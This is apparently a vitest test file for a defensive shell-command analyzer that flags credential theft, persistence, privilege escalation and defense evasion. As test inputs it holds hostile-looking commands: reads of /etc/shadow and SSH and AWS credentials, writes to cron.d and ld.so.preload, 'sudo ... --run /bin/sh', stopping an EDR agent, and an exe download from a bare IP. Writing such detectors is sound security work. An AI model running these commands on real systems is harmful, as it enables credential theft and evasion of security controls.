/**
 * The capability and target catalogs: validated at load, big enough, every entry sourced, and
 * rules that generalize — a program or target added to the catalog with no example anywhere is
 * judged by its capability alone.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { buildCatalog, builtinCatalog, CatalogInvalid, parseCatalogFile, type Analyzer } from '../../src/commands/index.js';
import { builtinRaw } from '../../src/commands/catalog/catalog.js';
import { programSchema, targetSchema } from '../../src/commands/catalog/schema.js';
import { loadAnalyzer } from '../../src/runtime/load-grammars.js';

describe('built-in catalog', () => {
  const c = builtinCatalog();
  it('passes the same zod schemas as a user catalog file', () => {
    const raw = builtinRaw();
    const p = z.array(programSchema).safeParse(raw.programs);
    expect(p.success, p.success ? '' : z.prettifyError(p.error)).toBe(true);
    const t = z.array(targetSchema).safeParse(raw.targets);
    expect(t.success, t.success ? '' : z.prettifyError(t.error)).toBe(true);
  });
  it('has several hundred programs, Unix and Windows, each with a named source', () => {
    const names = new Set(c.programs.flatMap((p) => p.names));
    expect(names.size).toBeGreaterThanOrEqual(600);
    expect(c.programs.filter((p) => p.platform === 'windows').flatMap((p) => p.names).length).toBeGreaterThanOrEqual(150);
    for (const p of c.programs) expect(p.sources.length, p.names[0]).toBeGreaterThan(0);
    for (const k of ['interpreter', 'editor', 'pager', 'debugger', 'archiver', 'network', 'package-manager', 'lolbin'] as const) expect(c.programs.some((p) => p.kind === k), k).toBe(true);
  });
  it('has targets of every kind, each with an ATT&CK technique', () => {
    for (const k of ['credential', 'persistence', 'privilege-config', 'security-tool', 'log'] as const) expect(c.targets.some((t) => t.entry.kind === k), k).toBe(true);
    for (const t of c.targets) expect(t.entry.technique).toMatch(/^T\d{4}(\.\d{3})?$/);
  });
  it('normalizes the many spellings of a home directory and a registry hive', () => {
    for (const p of ['~/.ssh/id_rsa', '/home/dev/.ssh/id_rsa', '/root/.ssh/id_rsa', '$HOME/.ssh/id_rsa', '${HOME}/.ssh/id_rsa', '%USERPROFILE%\\.ssh\\id_rsa', '$env:USERPROFILE\\.ssh\\id_rsa', 'C:\\Users\\dev\\.ssh\\id_rsa', '.ssh/id_rsa']) {
      expect(c.matchPath(p, ['credential'])?.entry.id, p).toBe('ssh-private-keys');
    }
    expect(c.matchPath('~/.ssh/id_rsa.pub', ['credential'])).toBeUndefined();
    for (const k of ['HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce', 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Registry::HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run']) {
      expect(c.matchPath(k, ['persistence'])?.entry.id, k).toBe('run-keys');
    }
    expect(c.matchName('WinDefend', ['security-tool'])?.entry.id).toBe('edr-av');
    expect(c.matchName('nginx', ['security-tool'])).toBeUndefined();
  });
});

describe('user catalog files', () => {
  it('rejects bad files with every problem located (threats: bad input gets a clear error)', () => {
    const bad = (text: string): string => {
      try {
        parseCatalogFile(text, 'my.json');
      } catch (e) {
        expect(e).toBeInstanceOf(CatalogInvalid);
        return (e as Error).message;
      }
      throw new Error('accepted');
    };
    expect(bad('{')).toMatch(/^my\.json: not valid JSON/);
    expect(bad('{"version":2}')).toMatch(/version/);
    expect(bad('{"version":1,"programs":[{"names":["x"],"platform":"unix","kind":"file","capabilities":{"read-files":[{"operands":true}]},"sources":["user"]}]}')).toMatch(/programs\.0\.capabilities/);
    expect(bad('{"version":1,"programs":[{"names":["x"],"platform":"unix","kind":"file","capabilities":{},"sources":["wikipedia"]}]}')).toMatch(/programs\.0\.sources\.0/);
    expect(bad('{"version":1,"targets":[{"id":"t","kind":"credential","title":"x","technique":"T1","severity":"critical","sources":["user"],"paths":["/x"]}]}')).toMatch(/technique/);
    expect(bad('{"version":1,"targets":[{"id":"tt","kind":"credential","title":"xyz","technique":"T1552","severity":"critical","sources":["user"]}]}')).toMatch(/paths or names/);
    expect(bad('{"version":1,"extra":true}')).toMatch(/extra|unrecognized/i);
  });
});

describe('rules generalize over the catalog', () => {
  let analyzer: Analyzer;
  beforeAll(async () => {
    // Invented names: no rule, corpus entry or test mentions them anywhere else.
    const extra = parseCatalogFile(
      JSON.stringify({
        version: 1,
        programs: [
          { names: ['quillread'], platform: 'unix', kind: 'text', capabilities: { 'read-file': [{ operands: true }] }, sources: ['user'] },
          { names: ['zapwrite'], platform: 'unix', kind: 'file', capabilities: { 'write-file': [{ flags: ['--into'] }] }, sources: ['user'] },
          { names: ['hoplaunch'], platform: 'unix', kind: 'other', capabilities: { 'exec-or-shell': [{ flags: ['--run'] }] }, sources: ['user'] },
          { names: ['svcctl9'], platform: 'windows', kind: 'service-manager', capabilities: { 'stop-service': [{ subcommands: ['halt'] }] }, sources: ['user'] },
          { names: ['grabbin'], platform: 'windows', kind: 'lolbin', capabilities: { download: [{ flags: ['/from'] }] }, sources: ['user'] },
        ],
        targets: [
          { id: 'corp-vault', kind: 'credential', title: 'the corporate vault token', paths: ['/opt/corpvault/token'], technique: 'T1552.001', severity: 'critical', sources: ['user'] },
          { id: 'corp-edr', kind: 'security-tool', title: 'the in-house EDR agent', names: ['sentrydog'], technique: 'T1562.001', severity: 'critical', sources: ['user'] },
        ],
      }),
      'test catalog',
    );
    analyzer = await loadAnalyzer({ timeBudgetMs: 2000 }, buildCatalog(extra));
  });
  const run = (shell: 'bash' | 'cmd', c: string) => analyzer.analyze(c, { shell });

  it('a reader added with no example is caught reading any credential store', () => {
    for (const f of ['/etc/shadow', '~/.aws/credentials', '/root/.ssh/id_ed25519', '/opt/corpvault/token']) {
      const a = run('bash', `quillread ${f}`);
      expect(a.verdict, f).toBe('deny');
      expect(a.findings.find((x) => x.rule === 'sensitive_read')?.technique).toMatch(/^T1(552|003)/);
    }
    expect(run('bash', 'quillread notes.txt').verdict).toBe('allow');
  });
  it('a writer is caught on persistence locations only through the option that writes', () => {
    expect(run('bash', 'zapwrite --into /etc/cron.d/job payload').findings.map((f) => f.rule)).toContain('persistence_write');
    expect(run('bash', 'zapwrite --into /etc/ld.so.preload x').verdict).toBe('deny');
    expect(run('bash', 'zapwrite /etc/cron.d/job').findings.map((f) => f.rule)).not.toContain('persistence_write');
  });
  it('a command runner under sudo that starts a shell is privilege escalation', () => {
    const a = run('bash', 'sudo hoplaunch --run /bin/sh');
    expect(a.verdict).toBe('deny');
    expect(a.findings.find((f) => f.rule === 'shell_breakout')?.technique).toBe('T1548.003');
    expect(run('bash', 'hoplaunch --run ./build.sh').verdict).toBe('allow');
  });
  it('a new service manager stopping a new security agent is defense evasion', () => {
    const a = run('cmd', 'svcctl9 halt SentryDog');
    expect(a.verdict).toBe('deny');
    expect(a.findings.find((f) => f.rule === 'security_service_stop')?.technique).toBe('T1562.001');
    expect(run('cmd', 'svcctl9 halt Spooler').verdict).toBe('allow');
  });
  it('a new system binary that downloads is caught fetching from the internet', () => {
    expect(run('cmd', 'grabbin /from http://203.0.113.4/a.exe').verdict).toBe('deny');
    expect(run('cmd', 'grabbin /from C:\\local\\a.exe').verdict).toBe('allow');
  });
  it('context.command carries the technique ids', async () => {
    const { toPolicyContext } = await import('../../src/commands/index.js');
    expect(toPolicyContext(run('bash', 'quillread /etc/shadow')).techniques).toEqual(['T1003.008']);
  });
});
